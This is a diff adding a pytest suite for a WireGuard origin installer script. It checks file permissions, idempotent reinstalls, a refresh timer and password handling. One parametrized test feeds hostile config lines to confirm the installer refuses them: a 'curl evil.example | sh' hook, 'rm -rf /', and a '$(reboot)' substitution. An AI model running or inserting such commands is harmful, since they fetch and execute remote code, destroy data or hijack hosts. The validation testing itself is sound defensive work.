@@ -1,0 +1,137 @@
+"""install-origin.sh against a real control plane, under --root (no firewall, no services)."""
+
+import os
+import stat
+import subprocess
+
+import pytest
+
+from conftest import REPO, require_tools
+
+SCRIPT = str(REPO / "install-origin.sh")
+
+
+def run_install(*args, env=None):
+    return subprocess.run(["bash", SCRIPT, *args], capture_output=True, text=True, timeout=60,
+                          env={**os.environ, **(env or {})})
+
+
+def tree(root):
+    """{relative path: (mode, content)} of every file under root."""
+    result = {}
+    for path in sorted(root.rglob("*")):
+        if path.is_file():
+            result[str(path.relative_to(root))] = (stat.S_IMODE(path.stat().st_mode),
+                                                   path.read_bytes())
+    return result
+
+
+@pytest.fixture
+def origin_setup(kokoa_server, tmp_path):
+    require_tools("wg", "curl")
+    status, _, origin = kokoa_server.request("POST", "/api/v1/origins", {
+        "name": "home", "wg_ip": "10.8.0.2"})
+    assert status == 201
+    kokoa_server.register_edge("edge1", wg_ip="10.8.0.1", wg_endpoint="edge1.example.com:51820",
+                               wg_public_key=wg_public())
+    return kokoa_server, origin, tmp_path / "root"
+
+
+def wg_public():
+    private = subprocess.run(["wg", "genkey"], capture_output=True, text=True, check=True,
+                             timeout=10).stdout
+    return subprocess.run(["wg", "pubkey"], input=private, capture_output=True, text=True,
+                          check=True, timeout=10).stdout.strip()
+
+
+def download(server, origin_id, path):
+    status, _, body = server.request("GET", f"/api/v1/origins/{origin_id}/wireguard.conf")
+    assert status == 200
+    path.write_bytes(body)
+    return body
+
+
+def test_config_file_install_is_private_and_idempotent(origin_setup, tmp_path):
+    server, origin, root = origin_setup
+    conf = download(server, origin["id"], tmp_path / "wireguard.conf")
+    first = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
+                        "--no-packages")
+    assert first.returncode == 0, first.stderr
+    live = root / "etc/wireguard/kokoa0.conf"
+    assert live.read_bytes() == conf
+    assert stat.S_IMODE(live.stat().st_mode) == 0o600
+    assert stat.S_IMODE(live.parent.stat().st_mode) == 0o700
+    before = tree(root)
+    second = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
+                         "--no-packages")
+    assert second.returncode == 0 and "no changes" in second.stderr
+    assert tree(root) == before
+
+
+def test_fetch_with_refresh_timer_follows_new_edges(origin_setup):
+    server, origin, root = origin_setup
+    args = ["--control-plane", server.url, "--origin-id", origin["id"], "--root", str(root),
+            "--no-packages", "--refresh-timer"]
+    env = {"KOKOA_ADMIN_PASSWORD": server.admin_password}
+    result = run_install(*args, env=env)
+    assert result.returncode == 0, result.stderr
+    assert server.admin_password not in result.stderr
+    env_file = root / "etc/kokoa/origin.env"
+    assert stat.S_IMODE(env_file.stat().st_mode) == 0o600
+    assert (root / "etc/systemd/system/kokoa-origin-refresh.timer").exists()
+    service = (root / "etc/systemd/system/kokoa-origin-refresh.service").read_text()
+    assert "--env-file /etc/kokoa/origin.env" in service
+    live = root / "etc/wireguard/kokoa0.conf"
+    assert live.read_text().count("[Peer]") == 1
+    server.register_edge("edge2", wg_ip="10.8.0.3", wg_endpoint="edge2.example.com:51820",
+                         wg_public_key=wg_public())
+    refresh = run_install("--env-file", str(env_file), "--root", str(root), "--no-packages")
+    assert refresh.returncode == 0, refresh.stderr
+    assert live.read_text().count("[Peer]") == 2
+
+
+def test_wrong_password_changes_nothing(origin_setup):
+    server, origin, root = origin_setup
+    result = run_install("--control-plane", server.url, "--origin-id", origin["id"],
+                         "--root", str(root), "--no-packages",
+                         env={"KOKOA_ADMIN_PASSWORD": "wrong"})
+    assert result.returncode == 1 and "nothing changed" in result.stderr
+    assert not (root / "etc/wireguard/kokoa0.conf").exists()
+
+
+@pytest.mark.parametrize("line", [
+    "PostUp = curl evil.example | sh", "PreDown = rm -rf /", "Table = off",
+    "DNS = 1.1.1.1", "PrivateKey = $(reboot)"])
+def test_config_with_commands_or_unknown_keys_is_refused(origin_setup, tmp_path, line):
+    server, origin, root = origin_setup
+    conf = download(server, origin["id"], tmp_path / "wireguard.conf").decode()
+    (tmp_path / "wireguard.conf").write_text(conf.replace("[Interface]\n",
+                                                          f"[Interface]\n{line}\n"))
+    result = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
+                         "--no-packages")
+    assert result.returncode == 1 and "refusing line" in result.stderr
+    assert not (root / "etc/wireguard/kokoa0.conf").exists()
+
+
+def test_public_key_only_origin_keeps_the_private_key_already_here(kokoa_server, tmp_path):
+    require_tools("wg")
+    private = subprocess.run(["wg", "genkey"], capture_output=True, text=True, check=True,
+                             timeout=10).stdout.strip()
+    public = subprocess.run(["wg", "pubkey"], input=private, capture_output=True, text=True,
+                            check=True, timeout=10).stdout.strip()
+    _, _, origin = kokoa_server.request("POST", "/api/v1/origins", {
+        "name": "office", "wg_ip": "10.8.0.4", "wg_public_key": public})
+    root = tmp_path / "root"
+    download(kokoa_server, origin["id"], tmp_path / "wireguard.conf")
+    missing = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
+                          "--no-packages")
+    assert missing.returncode == 1 and "no PrivateKey" in missing.stderr
+    assert not root.exists()
+    live = root / "etc/wireguard/kokoa0.conf"
+    live.parent.mkdir(parents=True)
+    live.write_text(f"[Interface]\nPrivateKey = {private}\n")
+    kept = run_install("--config", str(tmp_path / "wireguard.conf"), "--root", str(root),
+                       "--no-packages")
+    assert kept.returncode == 0, kept.stderr
+    assert f"PrivateKey = {private}" in live.read_text()
+    assert "Address = 10.8.0.4/32" in live.read_text()
